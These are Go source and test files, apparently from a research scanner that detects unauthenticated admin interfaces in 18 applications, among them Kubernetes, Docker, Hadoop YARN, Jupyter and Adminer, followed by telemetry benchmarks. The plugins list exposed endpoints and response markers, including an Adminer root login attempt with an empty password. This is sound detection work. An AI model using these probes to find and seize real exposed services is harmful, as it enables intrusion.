	target := Target{IP: netip.MustParseAddr("10.1.2.3"), Port: 8443, Scheme: "https", App: mav.Kubernetes}
	if got := target.URL(); got != "https://10.1.2.3:8443" {
		t.Fatalf("URL() = %q", got)
	}
}

// TestGetTruncationBoundary pins the at-the-cap semantics of Env.Get: a
// body of exactly limits.MaxBody is complete (Truncated false), one byte
// more is clipped to the cap with Truncated set — so a signature can never
// half-match a clipped body believing it saw the whole document.
func TestGetTruncationBoundary(t *testing.T) {
	ip := netip.MustParseAddr("10.9.9.9")
	exact := strings.Repeat("x", limits.MaxBody)
	over := exact + "y"
	mux := http.NewServeMux()
	mux.HandleFunc("/exact", func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, exact) })
	mux.HandleFunc("/over", func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, over) })
	n := simnet.New()
	h := simnet.NewHost(ip)
	h.Bind(80, httpsim.ConnHandler(mux))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	env := NewEnv(httpsim.NewClient(n, httpsim.ClientOptions{}))
	target := Target{IP: ip, Port: 80, Scheme: "http", App: mav.Grav}

	resp, err := env.Get(context.Background(), target, "/exact")
	if err != nil {
		t.Fatal(err)
	}
	if resp.Truncated || len(resp.Body) != limits.MaxBody {
		t.Errorf("exact-cap body: len=%d truncated=%v, want %d untruncated",
			len(resp.Body), resp.Truncated, limits.MaxBody)
	}

	resp, err = env.Get(context.Background(), target, "/over")
	if err != nil {
		t.Fatal(err)
	}
	if !resp.Truncated || len(resp.Body) != limits.MaxBody {
		t.Errorf("over-cap body: len=%d truncated=%v, want %d truncated",
			len(resp.Body), resp.Truncated, limits.MaxBody)
	}
}
