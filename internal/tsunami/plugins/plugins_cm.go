package plugins

import (
	"context"
	"strings"

	"mavscan/internal/mav"
	"mavscan/internal/tsunami"
)

// Kubernetes: (1) / contains 'certificates.k8s.io' and 'healthz/ping',
// (2) /api/v1/pods, whitespace-stripped, contains '"phase":"Running"',
// (3) the pod list parses as JSON with a non-empty items array.
type Kubernetes struct{ base }

// Detect implements tsunami.Detector.
func (p Kubernetes) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	root, err := env.Get(ctx, t, "/")
	if err != nil {
		return nil, err
	}
	if root.Status != 200 ||
		!strings.Contains(root.Body, "certificates.k8s.io") ||
		!strings.Contains(root.Body, "healthz/ping") {
		return nil, nil
	}
	pods, err := env.Get(ctx, t, "/api/v1/pods")
	if err != nil {
		return nil, err
	}
	if pods.Status != 200 {
		return nil, nil
	}
	flat := tsunami.StripWhitespace(pods.Body)
	if !strings.Contains(flat, `"phase":"Running"`) {
		return nil, nil
	}
	v, ok := tsunami.ParseJSON(pods.Body)
	if !ok {
		return nil, nil
	}
	items, ok := tsunami.JSONField(v, "items")
	if !ok {
		return nil, nil
	}
	list, ok := items.([]interface{})
	if !ok || len(list) == 0 {
		return nil, nil
	}
	return finding(t, p.app, "API server allows anonymous access to running pods"), nil
}

// Docker: (1) / answers with the daemon's JSON 404, (2) /version lowercased
// contains 'minapiversion' and 'kernelversion'.
type Docker struct{ base }

// Detect implements tsunami.Detector.
func (p Docker) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	root, err := env.Get(ctx, t, "/")
	if err != nil {
		return nil, err
	}
	if !strings.Contains(root.Body, `{"message":"page not found"}`) {
		return nil, nil
	}
	ver, err := env.Get(ctx, t, "/version")
	if err != nil {
		return nil, err
	}
	low := strings.ToLower(ver.Body)
	if ver.Status != 200 || !strings.Contains(low, "minapiversion") || !strings.Contains(low, "kernelversion") {
		return nil, nil
	}
	return finding(t, p.app, "daemon API exposed without authentication"), nil
}

// Consul: (1) /v1/agent/self is valid JSON, (2) it carries a DebugConfig,
// (3) at least one of the script-check options is enabled.
type Consul struct{ base }

// Detect implements tsunami.Detector.
func (p Consul) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	resp, err := env.Get(ctx, t, "/v1/agent/self")
	if err != nil {
		return nil, err
	}
	if resp.Status != 200 {
		return nil, nil
	}
	v, ok := tsunami.ParseJSON(resp.Body)
	if !ok {
		return nil, nil
	}
	dbg, ok := tsunami.JSONField(v, "DebugConfig")
	if !ok {
		return nil, nil
	}
	local, _ := tsunami.JSONField(dbg, "EnableScriptChecks")
	remote, _ := tsunami.JSONField(dbg, "EnableRemoteScriptChecks")
	if local == true || remote == true {
		return finding(t, p.app, "agent executes script checks registered over the open API"), nil
	}
	return nil, nil
}

// Hadoop: (1) /cluster/cluster lowercased contains 'hadoop',
// 'resourcemanager' and 'logged in as: dr.who', (2) the new-application
// endpoint answers valid JSON containing an application-id.
type Hadoop struct{ base }

// Detect implements tsunami.Detector.
func (p Hadoop) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	page, err := env.Get(ctx, t, "/cluster/cluster")
	if err != nil {
		return nil, err
	}
	low := strings.ToLower(page.Body)
	if page.Status != 200 ||
		!strings.Contains(low, "hadoop") ||
		!strings.Contains(low, "resourcemanager") ||
		!strings.Contains(low, "logged in as: dr.who") {
		return nil, nil
	}
	app, err := env.Get(ctx, t, "/ws/v1/cluster/apps/new-application")
	if err != nil {
		return nil, err
	}
	v, ok := tsunami.ParseJSON(app.Body)
	if app.Status != 200 || !ok {
		return nil, nil
	}
	if _, ok := tsunami.JSONField(v, "application-id"); !ok {
		return nil, nil
	}
	return finding(t, p.app, "YARN ResourceManager accepts unauthenticated application submission"), nil
}

// Nomad: the paper's step list is "visit /v1/jobs, check for
// '<title>Nomad</title>'". Our emulated agent keeps API (JSON) and UI
// (HTML) surfaces separate, so the equivalent two-step check is: /v1/jobs
// must answer 200 with a JSON array (ACLs disabled), and the UI must
// identify itself with the Nomad title.
type Nomad struct{ base }

// Detect implements tsunami.Detector.
func (p Nomad) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	jobs, err := env.Get(ctx, t, "/v1/jobs")
	if err != nil {
		return nil, err
	}
	if jobs.Status != 200 {
		return nil, nil
	}
	v, ok := tsunami.ParseJSON(jobs.Body)
	if !ok {
		return nil, nil
	}
	if _, isArray := v.([]interface{}); !isArray {
		return nil, nil
	}
	ui, err := env.Get(ctx, t, "/ui/")
	if err != nil {
		return nil, err
	}
	if !strings.Contains(ui.Body, "<title>Nomad</title>") {
		return nil, nil
	}
	return finding(t, p.app, "job API reachable without ACL token"), nil
}
