package plugins

import (
	"context"
	"strings"

	"mavscan/internal/mav"
	"mavscan/internal/tsunami"
)

// jupyterDetect implements the shared Jupyter check: /api/terminals must
// answer without authentication and carry the product's brand marker.
func jupyterDetect(ctx context.Context, env *tsunami.Env, t tsunami.Target, app mav.App, brand, details string) (*mav.Finding, error) {
	resp, err := env.Get(ctx, t, "/api/terminals")
	if err != nil {
		return nil, err
	}
	if resp.Status != 200 || !strings.Contains(resp.Body, brand) {
		return nil, nil
	}
	return finding(t, app, details), nil
}

// JupyterLab: /api/terminals answers and contains 'JupyterLab'.
type JupyterLab struct{ base }

// Detect implements tsunami.Detector.
func (p JupyterLab) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	return jupyterDetect(ctx, env, t, p.app, "JupyterLab", "terminal API reachable without password")
}

// JupyterNotebook: /api/terminals answers and contains 'Jupyter Notebook'.
type JupyterNotebook struct{ base }

// Detect implements tsunami.Detector.
func (p JupyterNotebook) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	return jupyterDetect(ctx, env, t, p.app, "Jupyter Notebook", "terminal API reachable without password")
}

// Zeppelin: /api/notebook answers with the OK status prefix.
type Zeppelin struct{ base }

// Detect implements tsunami.Detector.
func (p Zeppelin) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	resp, err := env.Get(ctx, t, "/api/notebook")
	if err != nil {
		return nil, err
	}
	if resp.Status != 200 || !strings.Contains(resp.Body, `{"status":"OK",`) {
		return nil, nil
	}
	return finding(t, p.app, "notebook API reachable without authentication"), nil
}

// Polynote: the landing page identifies an (always unauthenticated)
// Polynote server.
type Polynote struct{ base }

// Detect implements tsunami.Detector.
func (p Polynote) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	resp, err := env.Get(ctx, t, "/")
	if err != nil {
		return nil, err
	}
	if resp.Status != 200 || !strings.Contains(resp.Body, "<title>Polynote</title>") {
		return nil, nil
	}
	return finding(t, p.app, "Polynote has no authentication mechanism; exposure is the vulnerability"), nil
}

// Ajenti: /view/ carries the logged-in UI bootstrap markers only when
// --autologin is enabled.
type Ajenti struct{ base }

// Detect implements tsunami.Detector.
func (p Ajenti) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	resp, err := env.Get(ctx, t, "/view/")
	if err != nil {
		return nil, err
	}
	if resp.Status != 200 ||
		!strings.Contains(resp.Body, `customization.plugins.core.title || 'Ajenti'`) ||
		!strings.Contains(resp.Body, "ajentiPlatformUnmapped") {
		return nil, nil
	}
	return finding(t, p.app, "panel auto-logs visitors in as the OS account"), nil
}

// PhpMyAdmin: the logged-in main page (collation selector plus
// documentation link) is served without credentials; falls back to the
// /phpmyadmin prefix.
type PhpMyAdmin struct{ base }

// Detect implements tsunami.Detector.
func (p PhpMyAdmin) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	for _, path := range []string{"/", "/phpmyadmin"} {
		if err := ctx.Err(); err != nil {
			return nil, err // canceled is not "not vulnerable"
		}
		resp, err := env.Get(ctx, t, path)
		if err != nil {
			continue
		}
		if resp.Status == 200 &&
			strings.Contains(resp.Body, "Server connection collation") &&
			strings.Contains(resp.Body, "phpMyAdmin documentation") {
			return finding(t, p.app, "main panel served without credentials (AllowNoPassword)"), nil
		}
	}
	return nil, nil
}

// Adminer: /adminer.php?username=root logs straight in on vulnerable
// versions; falls back to the /adminer/ prefix. (Table 10 lists this row
// under a duplicated "Ajenti" label — an obvious typo for Adminer.)
type Adminer struct{ base }

// Detect implements tsunami.Detector.
func (p Adminer) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	for _, path := range []string{"/adminer.php?username=root", "/adminer/adminer.php?username=root"} {
		if err := ctx.Err(); err != nil {
			return nil, err // canceled is not "not vulnerable"
		}
		resp, err := env.Get(ctx, t, path)
		if err != nil {
			continue
		}
		if resp.Status == 200 &&
			strings.Contains(resp.Body, "through PHP extension") &&
			strings.Contains(resp.Body, "Logged as") {
			return finding(t, p.app, "database login succeeds with an empty password"), nil
		}
	}
	return nil, nil
}
