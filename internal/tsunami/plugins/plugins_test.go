package plugins

import (
	"context"
	"fmt"
	"net/http"
	"net/netip"
	"testing"

	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/simnet"
	"mavscan/internal/tsunami"
)

var pluginIP = netip.MustParseAddr("10.0.0.1")

// serve deploys a synthetic handler and returns an env + target for app.
func serve(t *testing.T, app mav.App, port int, h http.Handler) (*tsunami.Env, tsunami.Target) {
	t.Helper()
	n := simnet.New()
	host := simnet.NewHost(pluginIP)
	host.Bind(port, httpsim.ConnHandler(h))
	if err := n.AddHost(host); err != nil {
		t.Fatal(err)
	}
	env := tsunami.NewEnv(httpsim.NewClient(n, httpsim.ClientOptions{}))
	return env, tsunami.Target{IP: pluginIP, Port: port, Scheme: "http", App: app}
}

func pluginFor(t *testing.T, app mav.App) tsunami.Detector {
	t.Helper()
	dets := NewRegistry().DetectorsFor(app)
	if len(dets) != 1 {
		t.Fatalf("%s has %d plugins, want 1", app, len(dets))
	}
	return dets[0]
}

func TestRegistryCoversAll18(t *testing.T) {
	r := NewRegistry()
	for _, info := range mav.InScopeApps() {
		if len(r.DetectorsFor(info.App)) != 1 {
			t.Errorf("%s: expected exactly one plugin", info.App)
		}
	}
	if got := len(r.Apps()); got != 18 {
		t.Fatalf("registry covers %d apps, want 18", got)
	}
}

// TestJenkinsRequiresAllSteps: a page mentioning Jenkins without the
// create-item form must not be flagged (step 3 of Table 10).
func TestJenkinsRequiresAllSteps(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/view/all/newJob", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<!DOCTYPE html><html><body>Jenkins says login required</body></html>`)
	})
	env, target := serve(t, mav.Jenkins, 8080, mux)
	f, err := pluginFor(t, mav.Jenkins).Detect(context.Background(), env, target)
	if err != nil || f != nil {
		t.Fatalf("login page flagged: f=%v err=%v", f, err)
	}
}

// TestJenkinsRejectsNonHTML: the valid-HTML step must hold.
func TestJenkinsRejectsNonHTML(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/view/all/newJob", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `Jenkins form id="createItem"`) // not an HTML document
	})
	env, target := serve(t, mav.Jenkins, 8080, mux)
	f, _ := pluginFor(t, mav.Jenkins).Detect(context.Background(), env, target)
	if f != nil {
		t.Fatal("non-HTML body flagged")
	}
}

// TestDockerRequiresBothEndpoints: the JSON 404 alone is not enough.
func TestDockerRequiresBothEndpoints(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(404)
		fmt.Fprint(w, `{"message":"page not found"}`)
	})
	// /version denied (e.g. authz plugin in place).
	env, target := serve(t, mav.Docker, 2375, mux)
	f, _ := pluginFor(t, mav.Docker).Detect(context.Background(), env, target)
	if f != nil {
		t.Fatal("daemon with denied /version flagged")
	}
}

// TestKubernetesRequiresRunningPods: an empty pod list is not proof of
// usable anonymous access (step 3).
func TestKubernetesRequiresRunningPods(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `{"paths": ["/apis/certificates.k8s.io", "/healthz/ping"]}`)
	})
	mux.HandleFunc("/api/v1/pods", func(w http.ResponseWriter, r *http.Request) {
		// Mentions the phrase but has no items.
		fmt.Fprint(w, `{"kind":"PodList","note":"\"phase\":\"Running\"","items":[]}`)
	})
	env, target := serve(t, mav.Kubernetes, 6443, mux)
	f, _ := pluginFor(t, mav.Kubernetes).Detect(context.Background(), env, target)
	if f != nil {
		t.Fatal("empty pod list flagged")
	}
}

// TestConsulScriptCheckGate: DebugConfig present but both options false
// must not be flagged; either option true must be.
func TestConsulScriptCheckGate(t *testing.T) {
	for _, tc := range []struct {
		local, remote bool
		want          bool
	}{
		{false, false, false},
		{true, false, true},
		{false, true, true},
		{true, true, true},
	} {
		mux := http.NewServeMux()
		mux.HandleFunc("/v1/agent/self", func(w http.ResponseWriter, r *http.Request) {
			fmt.Fprintf(w, `{"DebugConfig":{"EnableScriptChecks":%v,"EnableRemoteScriptChecks":%v}}`, tc.local, tc.remote)
		})
		env, target := serve(t, mav.Consul, 8500, mux)
		f, _ := pluginFor(t, mav.Consul).Detect(context.Background(), env, target)
		if (f != nil) != tc.want {
			t.Errorf("local=%v remote=%v: flagged=%v, want %v", tc.local, tc.remote, f != nil, tc.want)
		}
	}
}

// TestDrupalWhitespaceInsensitive: element spacing varies across versions;
// the plugin must match through it.
func TestDrupalWhitespaceInsensitive(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/core/install.php", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "<li \n class=\"is-active\"> Set \t up \n database </li>")
	})
	env, target := serve(t, mav.Drupal, 80, mux)
	f, _ := pluginFor(t, mav.Drupal).Detect(context.Background(), env, target)
	// The whitespace INSIDE the attribute region differs from the
	// canonical form; stripping everything yields
	// `<liclass="is-active">Setupdatabase` which must match.
	if f == nil {
		t.Fatal("whitespace variant not detected")
	}
}

// TestPhpMyAdminFallbackPath: the /phpmyadmin prefix must be tried when /
// does not match.
func TestPhpMyAdminFallbackPath(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "some other site")
	})
	mux.HandleFunc("/phpmyadmin", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `Server connection collation ... <a>phpMyAdmin documentation</a>`)
	})
	env, target := serve(t, mav.PhpMyAdmin, 80, mux)
	f, _ := pluginFor(t, mav.PhpMyAdmin).Detect(context.Background(), env, target)
	if f == nil {
		t.Fatal("fallback path not tried")
	}
}

// TestAdminerFallbackPath mirrors the /adminer/ prefix fallback.
func TestAdminerFallbackPath(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/adminer/adminer.php", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "MySQL through PHP extension — Logged as: root")
	})
	env, target := serve(t, mav.Adminer, 80, mux)
	f, _ := pluginFor(t, mav.Adminer).Detect(context.Background(), env, target)
	if f == nil {
		t.Fatal("adminer fallback path not tried")
	}
}

// TestGravFallbackToAdmin: when / is a normal site the plugin must still
// check /admin for the account-creation page.
func TestGravFallbackToAdmin(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, "a blog")
	})
	mux.HandleFunc("/admin", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `No user accounts found, please <a>create one</a>`)
	})
	env, target := serve(t, mav.Grav, 80, mux)
	f, _ := pluginFor(t, mav.Grav).Detect(context.Background(), env, target)
	if f == nil {
		t.Fatal("admin fallback not tried")
	}
}

// TestGoCDMatchesAnyKnownPair: older GoCD versions use different dashboard
// markers; any of the four pairs must fire.
func TestGoCDMatchesAnyKnownPair(t *testing.T) {
	pairs := [][2]string{
		{"Create a pipeline - Go", "pipelines-page"},
		{"Add Pipeline", "admin_pipelines"},
		{"Dashboard - Go", "/go/admin/pipelines/"},
		{"Pipelines - Go", "/go/admin/pipelines"},
	}
	for i, pair := range pairs {
		pair := pair
		mux := http.NewServeMux()
		mux.HandleFunc("/go/home", func(w http.ResponseWriter, r *http.Request) {
			fmt.Fprintf(w, "<html>%s %s</html>", pair[0], pair[1])
		})
		env, target := serve(t, mav.GoCD, 8153, mux)
		f, _ := pluginFor(t, mav.GoCD).Detect(context.Background(), env, target)
		if f == nil {
			t.Errorf("pair %d (%q) not detected", i, pair[0])
		}
	}
}

// TestFindingCarriesKindAndPort: findings must be self-describing.
func TestFindingCarriesKindAndPort(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/api/terminals", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `[{"name":"1","app":"JupyterLab"}]`)
	})
	env, target := serve(t, mav.JupyterLab, 8888, mux)
	f, err := pluginFor(t, mav.JupyterLab).Detect(context.Background(), env, target)
	if err != nil || f == nil {
		t.Fatalf("not detected: %v %v", f, err)
	}
	if f.Kind != mav.KindSyscmd || f.Port != 8888 || f.App != mav.JupyterLab {
		t.Fatalf("finding incomplete: %+v", f)
	}
}

// TestUnreachableTargetIsError: transport failures must surface as errors,
// not as "not vulnerable" findings at the plugin level.
func TestUnreachableTargetIsError(t *testing.T) {
	n := simnet.New() // empty network
	env := tsunami.NewEnv(httpsim.NewClient(n, httpsim.ClientOptions{}))
	target := tsunami.Target{IP: pluginIP, Port: 2375, Scheme: "http", App: mav.Docker}
	f, err := pluginFor(t, mav.Docker).Detect(context.Background(), env, target)
	if err == nil || f != nil {
		t.Fatalf("unreachable target: f=%v err=%v", f, err)
	}
}
