// Package plugins contains the 18 MAV detection plugins, implementing the
// verification steps of Appendix A (Table 10) of the paper. Unless noted
// otherwise a MAV is reported only if *all* steps of a plugin succeed.
package plugins

import (
	"context"
	"strings"

	"mavscan/internal/mav"
	"mavscan/internal/tsunami"
)

// base provides the Detector boilerplate.
type base struct {
	app  mav.App
	name string
}

func (b base) App() mav.App { return b.app }
func (b base) Name() string { return b.name }

// finding builds the positive result for a plugin.
func finding(t tsunami.Target, app mav.App, details string) *mav.Finding {
	info := mav.MustLookup(app)
	return &mav.Finding{App: app, Kind: info.Kind, Port: t.Port, Details: details}
}

// RegisterAll installs all 18 detection plugins into r.
func RegisterAll(r *tsunami.Registry) {
	r.Register(Jenkins{base{mav.Jenkins, "JenkinsOpenNewJob"}})
	r.Register(GoCD{base{mav.GoCD, "GoCDOpenDashboard"}})
	r.Register(WordPress{base{mav.WordPress, "WordPressInstallOpen"}})
	r.Register(Grav{base{mav.Grav, "GravNoUserAccounts"}})
	r.Register(Joomla{base{mav.Joomla, "JoomlaWebInstaller"}})
	r.Register(Drupal{base{mav.Drupal, "DrupalInstallOpen"}})
	r.Register(Kubernetes{base{mav.Kubernetes, "KubernetesOpenAPI"}})
	r.Register(Docker{base{mav.Docker, "DockerExposedAPI"}})
	r.Register(Consul{base{mav.Consul, "ConsulScriptChecks"}})
	r.Register(Hadoop{base{mav.Hadoop, "HadoopYarnRM"}})
	r.Register(Nomad{base{mav.Nomad, "NomadOpenJobs"}})
	r.Register(JupyterLab{base{mav.JupyterLab, "JupyterLabTerminals"}})
	r.Register(JupyterNotebook{base{mav.JupyterNotebook, "JupyterNotebookTerminals"}})
	r.Register(Zeppelin{base{mav.Zeppelin, "ZeppelinNotebookAPI"}})
	r.Register(Polynote{base{mav.Polynote, "PolynoteExposed"}})
	r.Register(Ajenti{base{mav.Ajenti, "AjentiAutologin"}})
	r.Register(PhpMyAdmin{base{mav.PhpMyAdmin, "PhpMyAdminNoPassword"}})
	r.Register(Adminer{base{mav.Adminer, "AdminerEmptyPassword"}})
}

// NewRegistry returns a registry with all plugins installed.
func NewRegistry() *tsunami.Registry {
	r := tsunami.NewRegistry()
	RegisterAll(r)
	return r
}

// Jenkins: (1) visit /view/all/newJob, (2) body contains 'Jenkins' and is
// valid HTML, (3) element form#createItem exists.
type Jenkins struct{ base }

// Detect implements tsunami.Detector.
func (p Jenkins) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	resp, err := env.Get(ctx, t, "/view/all/newJob")
	if err != nil {
		return nil, err
	}
	if resp.Status != 200 || !strings.Contains(resp.Body, "Jenkins") || !tsunami.ValidHTML(resp.Body) {
		return nil, nil
	}
	if !tsunami.HasElementWithID(resp.Body, "form", "createItem") {
		return nil, nil
	}
	return finding(t, p.app, "new-job form reachable without authentication"), nil
}

// GoCD: visit /go/home and match one of four known dashboard string pairs.
type GoCD struct{ base }

// Detect implements tsunami.Detector.
func (p GoCD) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	resp, err := env.Get(ctx, t, "/go/home")
	if err != nil {
		return nil, err
	}
	if resp.Status != 200 {
		return nil, nil
	}
	pairs := [][2]string{
		{"Create a pipeline - Go", "pipelines-page"},
		{"Add Pipeline", "admin_pipelines"},
		{"Dashboard - Go", "/go/admin/pipelines/"},
		{"Pipelines - Go", "/go/admin/pipelines"},
	}
	for _, pair := range pairs {
		if strings.Contains(resp.Body, pair[0]) && strings.Contains(resp.Body, pair[1]) {
			return finding(t, p.app, "pipeline dashboard reachable without authentication"), nil
		}
	}
	return nil, nil
}

// WordPress: (1) visit /wp-admin/install.php?step=1, (2) body contains
// 'WordPress' and is valid HTML, (3) elements form#setup and input#pass1
// exist.
type WordPress struct{ base }

// Detect implements tsunami.Detector.
func (p WordPress) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	resp, err := env.Get(ctx, t, "/wp-admin/install.php?step=1")
	if err != nil {
		return nil, err
	}
	if resp.Status != 200 || !strings.Contains(resp.Body, "WordPress") || !tsunami.ValidHTML(resp.Body) {
		return nil, nil
	}
	if !tsunami.HasElementWithID(resp.Body, "form", "setup") || !tsunami.HasElementWithID(resp.Body, "input", "pass1") {
		return nil, nil
	}
	return finding(t, p.app, "installation wizard served publicly (install hijack possible)"), nil
}

// Grav: (1) visit / and look for the fresh-admin markers; (2) fall back to
// /admin and look for the no-user-accounts markers.
type Grav struct{ base }

// Detect implements tsunami.Detector.
func (p Grav) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	resp, err := env.Get(ctx, t, "/")
	if err == nil && resp.Status == 200 &&
		strings.Contains(resp.Body, "The Admin plugin has been installed") &&
		strings.Contains(resp.Body, "Create User") {
		return finding(t, p.app, "admin plugin installed with no user accounts"), nil
	}
	resp, err = env.Get(ctx, t, "/admin")
	if err != nil {
		return nil, err
	}
	if resp.Status == 200 &&
		strings.Contains(resp.Body, "No user accounts found") &&
		strings.Contains(resp.Body, "create one") {
		return finding(t, p.app, "admin account creation open to anyone"), nil
	}
	return nil, nil
}

// Joomla: visit /installation/index.php and look for installer markers.
type Joomla struct{ base }

// Detect implements tsunami.Detector.
func (p Joomla) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	resp, err := env.Get(ctx, t, "/installation/index.php")
	if err != nil {
		return nil, err
	}
	if resp.Status != 200 {
		return nil, nil
	}
	if strings.Contains(resp.Body, "Joomla! Web Installer") ||
		strings.Contains(resp.Body, "Enter the name of your Joomla! site") {
		return finding(t, p.app, "web installer served publicly (install hijack possible)"), nil
	}
	return nil, nil
}

// Drupal: (1) visit the install wizard, (2) remove all whitespace (element
// spacing differs across versions), (3) look for the active set-up-database
// step.
type Drupal struct{ base }

// Detect implements tsunami.Detector.
func (p Drupal) Detect(ctx context.Context, env *tsunami.Env, t tsunami.Target) (*mav.Finding, error) {
	resp, err := env.Get(ctx, t, "/core/install.php?langcode=en&profile=standard&continue=1")
	if err != nil {
		return nil, err
	}
	if resp.Status != 200 {
		return nil, nil
	}
	flat := tsunami.StripWhitespace(resp.Body)
	if strings.Contains(flat, `<liclass="is-active">Setupdatabase`) {
		return finding(t, p.app, "installation wizard served publicly (install hijack possible)"), nil
	}
	return nil, nil
}
