package telemetry

import (
	"testing"
	"time"

	"mavscan/internal/simtime"
)

// BenchmarkCounterAdd is the single-goroutine cost of one counter update.
func BenchmarkCounterAdd(b *testing.B) {
	reg := New(simtime.Wall{})
	c := reg.Counter("bench_total")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c.Inc()
	}
}

// BenchmarkCounterAddParallel is the contended case the striping exists
// for: every worker of a scan pool incrementing one shared counter.
func BenchmarkCounterAddParallel(b *testing.B) {
	reg := New(simtime.Wall{})
	c := reg.Counter("bench_total")
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			c.Inc()
		}
	})
}

// BenchmarkCounterAddDisabled is the telemetry-off cost: a nil handle.
func BenchmarkCounterAddDisabled(b *testing.B) {
	var c *Counter
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c.Inc()
	}
}

// BenchmarkHistogramObserve measures one latency observation.
func BenchmarkHistogramObserve(b *testing.B) {
	reg := New(simtime.Wall{})
	h := reg.Histogram("bench_seconds", nil)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		h.ObserveDuration(37 * time.Microsecond)
	}
}

// BenchmarkHistogramObserveParallel is the contended histogram case.
func BenchmarkHistogramObserveParallel(b *testing.B) {
	reg := New(simtime.Wall{})
	h := reg.Histogram("bench_seconds", nil)
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			h.Observe(3.7e-5)
		}
	})
}

// BenchmarkSpan measures a full start/end span pair under the wall clock.
func BenchmarkSpan(b *testing.B) {
	reg := New(simtime.Wall{})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		reg.StartSpan("bench").End()
		if i%maxSpans == maxSpans-1 {
			b.StopTimer()
			reg.mu.Lock()
			reg.spans.records = reg.spans.records[:0]
			reg.mu.Unlock()
			b.StartTimer()
		}
	}
}
