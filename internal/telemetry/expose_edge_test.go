package telemetry

import (
	"bytes"
	"strings"
	"testing"

	"mavscan/internal/simtime"
)

func TestEscapeLabelEdgeCases(t *testing.T) {
	cases := []struct{ in, want string }{
		{"plain", "plain"},
		{`back\slash`, `back\\slash`},
		{`say "hi"`, `say \"hi\"`},
		{"multi\nline", `multi\nline`},
		{`all \ " ` + "\n", `all \\ \" \n`},
		{"ütf-8 ✓", "ütf-8 ✓"},
		{"", ""},
	}
	for _, c := range cases {
		if got := escapeLabel(c.in); got != c.want {
			t.Errorf("escapeLabel(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestLabeledEscapesValues(t *testing.T) {
	got := Labeled("x_total", "state", `fi"x\ed`)
	want := `x_total{state="fi\"x\\ed"}`
	if got != want {
		t.Fatalf("Labeled = %s, want %s", got, want)
	}
}

func TestWritePromEscapedLabelSeries(t *testing.T) {
	reg := New(simtime.NewSim(t0))
	reg.Counter(Labeled("mavscan_edge_total", "path", `C:\tmp`, "msg", "a\nb")).Inc()
	var buf bytes.Buffer
	if err := reg.WriteProm(&buf); err != nil {
		t.Fatal(err)
	}
	want := `mavscan_edge_total{path="C:\\tmp",msg="a\nb"} 1` + "\n"
	if !strings.Contains(buf.String(), want) {
		t.Fatalf("WriteProm output missing escaped series %q:\n%s", want, buf.String())
	}
	// The family header must use the bare family name, not the labeled one.
	if !strings.Contains(buf.String(), "# TYPE mavscan_edge_total counter\n") {
		t.Fatalf("WriteProm missing family TYPE header:\n%s", buf.String())
	}
}

func TestSplitSeriesRoundTrip(t *testing.T) {
	cases := []struct {
		series, family, labels string
	}{
		{"plain_total", "plain_total", ""},
		{`x_total{state="fixed"}`, "x_total", `state="fixed"`},
		{`x_total{a="1",b="2"}`, "x_total", `a="1",b="2"`},
		{`x_total{v="br{ace"}`, "x_total", `v="br{ace"`},
		{`x_total{q="\""}`, "x_total", `q="\""`},
		{`x_total{}`, "x_total", ""},
	}
	for _, c := range cases {
